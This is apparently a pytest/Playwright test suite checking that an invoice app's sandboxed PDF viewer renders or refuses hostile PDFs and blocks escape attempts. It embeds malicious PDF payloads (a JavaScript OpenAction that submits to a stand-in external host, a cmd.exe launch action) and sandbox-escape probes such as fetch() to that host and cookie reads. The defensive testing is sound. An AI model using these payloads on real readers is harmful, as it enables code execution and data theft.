"""PDFs that somebody sent to do harm: drawn, or said to be undrawable, and nothing of them runs."""

import pytest
from playwright.sync_api import Error, Frame, Page, Request, Route, expect
from pytest_django.live_server_helper import LiveServer

from econnect_admin.sandbox.pdf import make_pdf
from invoices.models import EInvoice
from tests.browser.conftest import Import
from tests.browser.test_hostile_files import HTML, with_attachments
from tests.documents import invoice

_ATTACK = b"app.alert(1); parent.ran = 1; this.submitForm('https://elsewhere.example/');"
_LINK = (
    b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842]"
    b" /A << /S /URI /URI (https://elsewhere.example/) >> >>]"
)


def put_in(before: bytes, what: bytes) -> bytes:
    """With something more in a dictionary; places behind it are then wrong, as in many a real file."""
    return make_pdf("Factuur").replace(before, before + b" " + what)


DRAWN = {
    "JavaScript": put_in(b"/Type /Catalog", b"/OpenAction << /S /JavaScript /JS (%b) >>" % _ATTACK),
    "a launcher": put_in(b"/Type /Catalog", b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "a link": put_in(b"/Type /Page /Parent", b"2 0 R " + _LINK + b" /Ignored").replace(
        b"/Ignored 2 0 R", b""
    ),
    "HTML behind it": make_pdf("Factuur") + HTML,
}
UNDRAWN = {
    "HTML in its place": b"%PDF-1.4\n" + HTML + b"\n%%EOF",
    "broken off": make_pdf("Factuur")[:60],
    "garbage": b"%PDF-1.7\n" + bytes(range(256)) * 50,
}


def open_pdf(page: Page, content: bytes, imported: Import) -> None:
    imported(with_attachments(("factuur.pdf", "application/pdf", content)))
    page.goto(f"/invoices/einvoice/{EInvoice.objects.latest('pk').pk}/change/")


@pytest.fixture
def asked(clerks_page: Page, live_server: LiveServer) -> list[str]:
    """The addresses outside our server that anything on the page asks for."""
    elsewhere: list[str] = []
    ours = (live_server.url, f"blob:{live_server.url}", "blob:null", "data:")

    def note(request: Request) -> None:
        if not request.url.startswith(ours):
            elsewhere.append(request.url)

    clerks_page.on("request", note)
    return elsewhere


def frame_of(page: Page) -> Frame:
    frame = page.locator("#document iframe").element_handle().content_frame()
    assert frame
    return frame


@pytest.mark.parametrize("content", DRAWN.values(), ids=DRAWN.keys())
def test_it_is_drawn_and_nothing_runs(
    clerks_page: Page, imported: Import, asked: list[str], content: bytes
) -> None:
    clerks_page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    open_pdf(clerks_page, content, imported)
    drawn = clerks_page.frame_locator("#document iframe")
    expect(drawn.get_by_role("img", name="Pagina 1")).to_be_visible()
    expect(drawn.locator(".textLayer")).to_have_text("Factuur")
    expect(drawn.get_by_text("pagina 1 van 1")).to_be_visible()
    drawn.locator(".page").click()
    assert drawn.locator("a, form, input").count() == 0
    assert clerks_page.evaluate("window.ran") is None
    assert asked == []


@pytest.mark.parametrize("content", UNDRAWN.values(), ids=UNDRAWN.keys())
def test_what_cannot_be_drawn_is_said_and_can_be_saved(
    clerks_page: Page, imported: Import, content: bytes
) -> None:
    open_pdf(clerks_page, content, imported)
    pane = clerks_page.locator("#pane-pdf")
    expect(pane).to_contain_text("Deze PDF kan hier niet worden getoond")
    expect(pane.locator("iframe")).to_have_count(0)
    with clerks_page.expect_download() as download:
        pane.get_by_role("link", name="PDF downloaden").click()
    assert download.value.suggested_filename == "factuur.pdf"
    assert clerks_page.evaluate("window.ran") is None


_IMPATIENT = "const wait = setTimeout; window.setTimeout = (what, pause) => wait(what, pause / 10);"


def test_one_that_takes_for_ever_is_given_up(clerks_page: Page, imported: Import) -> None:
    clerks_page.add_init_script(_IMPATIENT)
    held: list[Route] = []

    def hold(route: Route) -> None:
        held.append(route)

    clerks_page.route("**/pdf.worker.min.mjs", hold)
    open_pdf(clerks_page, make_pdf("Factuur"), imported)
    expect(clerks_page.locator("#pane-pdf iframe")).to_be_visible()
    expect(clerks_page.locator("#pane-pdf")).to_contain_text("Deze PDF kan hier niet worden getoond")
    expect(clerks_page.locator("#pane-pdf iframe")).to_have_count(0)
    for route in held:
        route.abort()


def test_what_draws_it_reaches_nothing(clerks_page: Page, imported: Import, refused: list[str]) -> None:
    """Whatever a file makes the drawing code do: it has no session, no page around it and no network."""
    open_pdf(clerks_page, make_pdf("Factuur"), imported)
    expect(clerks_page.frame_locator("#document iframe").locator(".page canvas")).to_be_visible()
    frame = frame_of(clerks_page)
    assert frame.evaluate("origin") == "null"
    for attempt in (
        "parent.document.title",
        "document.cookie",
        "localStorage.length",
        "fetch('https://elsewhere.example/')",
        "fetch('/invoices/einvoice/')",
        "new Promise((_, no) => Object.assign(new Image(), { onerror: no, src: 'https://a.example/' }))",
    ):
        with pytest.raises(Error):
            frame.evaluate(attempt)
    assert frame.evaluate("window.open('https://elsewhere.example/')") is None
    refused.clear()


def test_the_viewer_is_shut_in_also_where_it_is_opened_by_itself(clerks_page: Page, imported: Import) -> None:
    imported(invoice())
    response = clerks_page.goto("/invoices/einvoice/pdf-viewer/")
    assert response
    assert "sandbox allow-scripts" in response.headers["content-security-policy"]
    assert clerks_page.evaluate("origin") == "null"
